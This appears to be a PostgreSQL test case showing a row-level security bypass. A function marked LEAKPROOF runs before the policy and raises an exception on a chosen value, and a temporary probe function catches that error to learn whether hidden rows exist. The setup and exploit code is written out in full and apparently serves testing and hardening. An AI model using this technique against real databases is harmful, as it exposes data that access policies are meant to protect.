-- A user's function marked LEAKPROOF is run before the policy.
-- object: public.norm(text)
-- base: wiki
--- setup
RESET ROLE; CREATE TABLE seen (what text); GRANT INSERT ON seen TO {backend};
CREATE FUNCTION norm(t text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN INSERT INTO public.seen VALUES (t); RETURN true; END $$;
CREATE FUNCTION see() RETURNS bigint LANGUAGE sql AS 'SELECT 1::bigint';
REVOKE ALL ON seen FROM {backend};
CREATE OR REPLACE FUNCTION norm(t text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN IF t = 'b' THEN RAISE EXCEPTION 'saw %', t USING ERRCODE = 'P0001'; END IF; RETURN true; END $$;
--- leak
RESET ROLE; ALTER FUNCTION norm(text) LEAKPROOF;
--- exploit
CREATE FUNCTION pg_temp.probe() RETURNS SETOF integer LANGUAGE plpgsql AS $$ BEGIN PERFORM FROM documents WHERE norm(title); EXCEPTION WHEN raise_exception THEN RETURN NEXT 1; END $$;
SELECT FROM pg_temp.probe();
